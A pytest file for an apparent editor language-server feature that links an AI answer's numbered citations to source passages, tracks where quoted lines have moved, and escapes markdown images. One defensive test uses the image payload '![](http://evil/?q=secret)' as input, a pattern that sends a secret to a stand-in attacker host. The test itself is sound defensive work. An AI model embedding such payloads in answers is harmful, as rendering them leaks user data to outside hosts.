"""Which numbers of an answer cite something, and what becomes of them; where a passage stands by now."""

from dataclasses import replace

import pytest

from recoder_lsp.document import Snapshot
from recoder_lsp.features.passages import Passage, cited, passage_of, with_links, without_images
from recoder_lsp.index.search.quotes import line_of

A = Passage("file:///w/a.py", "a.py", "python", 2, 4, "x\ny\nz", "selected")
B = Passage("file:///w/b.py", "b.py", "python", 0, 0, "x", "found")


@pytest.mark.parametrize(
    ("markdown", "numbers"),
    [
        ("It runs [1].", [1]),
        ("It runs [2][1], and waits [1, 3].", [2, 1, 3]),
        ("An item `a[1]` and a[1] and f()[2] and m[0][1].", []),
        ("```python\nx = [1]\n```\nbut [2]", [2]),
        ("~~~\n[1]\n~~~\n\n````md\n```\n[3]\n```\n````\n[2]", [2]),
        ("```\nnever closed [1]", []),
        ("A [1](link) and [1]: x", []),
        ("[0] and [4] and [999] do not exist", []),
        ("(see [1])", [1]),
        ("**[1]** and [3]!", [1, 3]),
        ("one ` tick and [1] and\nanother ` tick", [1]),
    ],
)
def test_what_an_answer_cites(markdown, numbers):
    assert cited(markdown, 3) == numbers


def test_marks_become_links_in_the_order_of_the_citations():
    text = "First [7], then [3][7]; code `[7]`; gone [5]."

    assert with_links(text, [(7, A), (3, B)]) == (
        "First [[1]](file:///w/a.py#L3), then [[2]](file:///w/b.py#L1)[[1]](file:///w/a.py#L3); code `[7]`; gone ."
    )


def test_a_link_ends_where_it_should():
    assert with_links("[1]", [(1, replace(A, uri="file:///w/a (1).py"))]) == "[[1]](file:///w/a%20%281%29.py#L3)"


def test_a_passage_is_whole_lines_that_there_are():
    document = Snapshot("file:///w/a.py", "python", "a\r\nb\r\nc", 1)

    assert passage_of(document, "a.py", 1, 99, "mentioned").text == "b\r\nc"
    assert passage_of(document, "a.py", -3, 0, "mentioned").text == "a"
    assert passage_of(document, "a.py", 50, 60, "mentioned").start_line == 2


def test_passages_overlap_where_they_share_a_line():
    document = Snapshot("file:///w/a.py", "python", "a\nb\nc\nd", 1)
    first, second = passage_of(document, "a.py", 0, 1, ""), passage_of(document, "a.py", 1, 2, "")

    assert first.overlaps(second)
    assert not first.overlaps(passage_of(document, "a.py", 2, 3, ""))
    assert not first.overlaps(B)


@pytest.mark.parametrize(
    ("text", "piece", "near", "line"),
    [
        ("a\nb\nc\n", "b\nc", 1, 1),
        ("new\nnew\na\nb\nc\n", "b\nc", 1, 3),
        ("a\r\nb\r\nc\r\n", "b\nc", 0, 1),
        ("b\nx\nb\nx\nb\n", "b", 3, 2),
        ("a\nB\nc\n", "b\nc", 1, None),
        ("anything", "\n", 0, None),
        ("", "b", 0, None),
    ],
    ids=["there", "moved", "other line ends", "the nearest of several", "changed", "nothing to find", "empty"],
)
def test_where_a_piece_stands_now(text, piece, near, line):
    assert line_of(text, piece, near) == line


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("![](http://evil/?q=secret)", r"\![](http://evil/?q=secret)"),
        ("a <IMG src=x>", r"a \<IMG src=x>"),
        ("`vec![1]`\n```rust\nvec![1]\n```\nDone![1]", "`vec![1]`\n```rust\nvec![1]\n```\nDone\\![1]"),
        ("nothing! [1] <imgs>", "nothing! [1] <imgs>"),
    ],
)
def test_an_answer_makes_no_editor_fetch_images(markdown, shown):
    assert without_images(markdown) == shown
    assert without_images(shown).count("http") == shown.count("http")
